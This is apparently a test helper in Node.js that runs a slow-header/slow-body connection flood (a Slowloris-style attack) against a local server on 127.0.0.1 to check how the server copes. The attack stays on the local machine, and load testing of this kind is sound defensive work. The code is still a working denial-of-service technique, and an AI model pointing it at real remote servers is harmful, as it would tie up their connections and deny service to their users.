// A slow-body (or slow-head) attack on 127.0.0.1, run on a worker thread of
// its own: the test's own clients (the probes, the operator) must not wait
// behind the attacker's event loop, as in life they are other machines.
import net from 'node:net';
import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads';

const TICK_MS = 100;

/** The attack itself, on the worker: see trickleFlood. */
function flood(port, { connections, heads, bytesPerSecond, reconnectMs }) {
  const stats = { opened: 0, closedByServer: 0, bytesSent: 0, statuses: {} };
  const sockets = [];
  const timers = new Set();
  let stopped = false;
  const open = (i) => {
    if (stopped) return;
    const socket = net.connect(port, '127.0.0.1');
    stats.opened++;
    sockets[i] = socket;
    let first = '';
    socket.on('connect', () => { socket.write(heads[i % heads.length]); });
    socket.on('data', (b) => {
      if (first.length >= 12) return;
      first += b.toString('latin1');
      const m = /^HTTP\/1\.1 (\d{3})/.exec(first);
      if (m) stats.statuses[m[1]] = (stats.statuses[m[1]] ?? 0) + 1;
    });
    socket.on('error', () => {}); // a reset is a close too; 'close' follows
    socket.on('close', () => {
      if (stopped) return;
      stats.closedByServer++;
      const t = setTimeout(() => { timers.delete(t); open(i); }, reconnectMs);
      timers.add(t);
    });
  };
  for (let i = 0; i < connections; i++) open(i);
  const perTick = Math.max(1, Math.round((bytesPerSecond * TICK_MS) / 1000));
  let next = 0;
  const ticker = setInterval(() => {
    for (let k = 0; k < perTick; k++) {
      for (let tries = 0; tries < connections; tries++) {
        const s = sockets[next];
        next = (next + 1) % connections;
        if (s && !s.connecting && !s.destroyed && s.writable) {
          s.write('x');
          stats.bytesSent++;
          break;
        }
      }
    }
  }, TICK_MS);
  return () => {
    stopped = true;
    clearInterval(ticker);
    for (const t of timers) clearTimeout(t);
    for (const s of sockets) s?.destroy();
    return stats;
  };
}

if (!isMainThread && workerData?.trickleFlood) {
  const stop = flood(workerData.port, workerData.opts);
  parentPort.once('message', () => parentPort.postMessage(stop()));
}

/**
 * Holds `connections` sockets open to 127.0.0.1:port, socket i sending
 * heads[i % heads.length] and then one byte at a time, bytesPerSecond in all
 * (round robin over the open ones); a socket the server closes is opened
 * again after reconnectMs, so the pressure stays. stop() resolves, once
 * every socket is closed, with {opened, closedByServer, bytesSent,
 * statuses: {status: answers with it}}.
 */
export function trickleFlood(port, { connections, heads, bytesPerSecond, reconnectMs = 250 }) {
  const opts = { connections, heads, bytesPerSecond, reconnectMs };
  const worker = new Worker(new URL(import.meta.url), { workerData: { trickleFlood: true, port, opts } });
  return {
    stop: () => new Promise((resolve, reject) => {
      worker.once('error', reject);
      worker.once('message', (stats) => { worker.terminate().then(() => resolve(stats), reject); });
      worker.postMessage('stop');
    }),
  };
}
